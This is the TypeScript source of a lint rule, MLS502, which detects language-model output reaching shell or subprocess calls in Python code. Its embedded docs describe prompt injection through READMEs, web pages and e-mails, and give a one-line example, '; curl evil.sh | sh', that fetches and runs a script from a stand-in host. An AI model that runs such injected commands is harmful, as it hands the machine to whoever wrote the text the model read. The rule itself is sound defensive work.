import type { SyntaxNode } from '../../engine/syntax';
import { defineRule } from '../../engine/rule';
import { flag, LLM_OUTPUT_WORDS } from '../helpers';
import { flowTracker, type Sink } from './flow';
import { llmOutput, OUTPUT_HANDLING, toolSummaries } from './llm';

/** Functions that always hand their argument to a shell. */
const SHELL = new Set(['os.system', 'os.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'commands.getoutput', 'asyncio.create_subprocess_shell', 'pty.spawn']);
/** Functions that run a program: a string is the program's name (or a command line with `shell=True`); in a list, the first item is. */
const INTERPRETERS = /^(.*\/)?(sh|bash|zsh|dash|ksh|fish|cmd|cmd\.exe|powershell|pwsh|python[0-9.]*|pythonw|perl|ruby|node|env|xargs|timeout|nohup|sudo|su|ssh|docker|podman|kubectl|find|watch|awk|nsenter|chroot|nice|ionice|stdbuf|strace|time|exec)$/;
/** Functions that split a command line and run it (pexpect): the program and its arguments are the string's. */
const COMMAND_LINES = new Set(['pexpect.spawn', 'pexpect.spawnu', 'pexpect.run', 'pexpect.runu', 'pexpect.popen_spawn.PopenSpawn', 'pexpect.pty_spawn.spawn', 'wexpect.spawn', 'sh.Command']);
const PROCESS = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen', 'asyncio.create_subprocess_exec', 'os.execv', 'os.execvp', 'os.execl', 'os.execlp', 'os.spawnv', 'os.spawnvp', 'os.startfile', 'os.spawnl', 'os.spawnlp', 'os.execle', 'os.execlpe', 'os.execve', 'os.execvpe']);

/**
 * The pre-filter: a file holding a model call, or one of this rule's sinks (written as its module or
 * function name, which no alias hides), so that a module of helpers naming no model still exports
 * which of its functions' parameters reach a sink (`def run_query(sql): cursor.execute(sql)`).
 */
const WORDS: readonly string[] = [...LLM_OUTPUT_WORDS, ...['system', 'popen', 'exec', 'spawn', 'startfile', 'subprocess', 'getoutput', 'commands', 'pty', 'pexpect', 'wexpect', 'BashProcess', 'Command']];

export default defineRule({
  meta: {
    code: 'MLS502',
    requires: WORDS,
    facts: ['llmText', 'llmSinks'],
    name: 'llm-output-to-shell',
    title: 'Model output run as a shell command',
    category: 'llm-application',
    severity: 'error',
    confidence: 'medium',
    fix: 'none',
    fileScope: true,
    references: OUTPUT_HANDLING(['CWE-78']),
  },
  docs: `
## What it does
Reports text from an LLM call (the same sources as [MLS501](MLS501.md)) reaching \`os.system\`, \`os.popen\`, \`subprocess.getoutput\`, \`asyncio.create_subprocess_shell\`, or \`subprocess.run\` / \`call\` / \`check_output\` / \`Popen\` with \`shell=True\`, as a string command, or as the program (first item) of an argument list.

Tools' parameters and the file's own functions count as for [MLS501](MLS501.md): a helper that runs its parameter in a shell is reported where it is called with model output.

## Why is this bad?
An agent that "suggests a command" and runs it obeys whoever wrote the text the model read: a README in the repository it explores, a web page, an e-mail. \`; curl evil.sh | sh\` appended by a prompt injection runs with the application's rights (OWASP LLM05 Improper Output Handling, LLM06 Excessive Agency).

## Example
\`\`\`python
command = llm.invoke(f"Shell command to {task}").content
subprocess.run(command, shell=True)
\`\`\`

## Use instead
Map the model's choice onto commands you wrote, and pass its values as separate arguments:
\`\`\`python
ACTIONS = {"disk": ["df", "-h"], "uptime": ["uptime"]}
choice = Choice.model_validate_json(llm.invoke(prompt).content)
subprocess.run(ACTIONS[choice.action], check=True)
\`\`\`
If free-form commands are the product, run them in a disposable sandbox and ask a person to confirm each one.

## Fix safety
No fix.

## Known limitations
As for [MLS501](MLS501.md) (the file's own functions through summaries, other files of the project one hop). The Ollama command line run as a subprocess (\`subprocess.run(["ollama", "run", ...])\`) is a source, not a sink: the user's text as its later argument is not reported. A model-written value passed as a later item of an argument list (an argument to a fixed program: \`["git", "commit", "-m", text]\`, \`["git"] + args\`) is not reported; \`shlex.quote\` ends the flow.

## References
- [OWASP Top 10 for LLM Applications 2025: LLM05 Improper Output Handling](https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/)
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
`,
  create(ctx) {
    return flowTracker(ctx, {
      code: 'MLS502',
      words: WORDS,
      source: llmOutput(ctx),
      summaries: toolSummaries(ctx),
      sinkTypes: ['call'],
      sinks(call) {
        const q = ctx.callee(call);
        if (!q) return [];
        const other = /\.BashProcess\.run$/.test(q) || /^os\.(exec|spawn)/.test(q) || q === 'asyncio.create_subprocess_exec' || COMMAND_LINES.has(q);
        if (!other && !SHELL.has(q) && !PROCESS.has(q)) return [];
        const args = ctx.args(call);
        const fn = call.childForFieldName('function')!;
        // LangChain's `BashProcess().run(commands)`; `os.exec*` and `os.spawn*` with the program or a shell's arguments among their arguments.
        if (other) return [{ at: fn, args: args.positional, requires: ['llm'], message: message(fn, 'a command written') }];
        let arg: SyntaxNode | undefined = args.positional[0] ?? args.keywords.get('args')?.value ?? args.keywords.get('cmd')?.value ?? args.keywords.get('command')?.value;
        if (!arg) return [];
        // A `shell=` the rule cannot evaluate may be true.
        const shellFlag = flag(ctx, args, 'shell').state;
        const shell = SHELL.has(q) || shellFlag === 'true' || shellFlag === 'unknown';
        let args2: SyntaxNode[] = [arg];
        // `["git"] + args`: the list written first names the program.
        const listed = arg.type === 'binary_operator' && ['list', 'tuple'].includes(arg.childForFieldName('left')?.type ?? '') && arg.childForFieldName('left')!.namedChildren.length ? arg.childForFieldName('left')! : arg;
        if (!shell && (listed.type === 'list' || listed.type === 'tuple')) {
          const items = listed.namedChildren.filter((c): c is SyntaxNode => !!c && c.type !== 'comment');
          const program = ctx.evaluate(items[0]);
          // A shell or an interpreter runs its arguments too (`["bash", "-c", text]`).
          const interpreter = (program.known && typeof program.value === 'string' && INTERPRETERS.test(program.value)) || ctx.qualifiedName(items[0] ?? null) === 'sys.executable';
          args2 = interpreter ? (listed === arg ? items : [...items, arg.childForFieldName('right')!]) : items.slice(0, 1);
          // `[sys.executable, "-m", "black", path]`: Python runs the module named, which is the program.
          const flag1 = interpreter && items.length > 2 ? ctx.evaluate(items[1]) : undefined;
          if (flag1?.known && flag1.value === '-m' && listed === arg && (/python/.test(String(program.known ? program.value : '')) || ctx.qualifiedName(items[0] ?? null) === 'sys.executable')) args2 = [items[2]];
        }
        if (!args2.length) return [];
        const sink: Sink = { at: fn, args: args2, requires: ['llm'], message: message(fn, shell ? 'a shell command written' : 'a program named') };
        return [sink];
      },
    });
  },
});

function message(fn: SyntaxNode, how: string): string {
  return `\`${fn.text.replace(/\s+/g, '')}\` runs ${how} by a model ({source}): a prompt injection becomes a command on this machine; map the model's choice onto commands you wrote`;
}
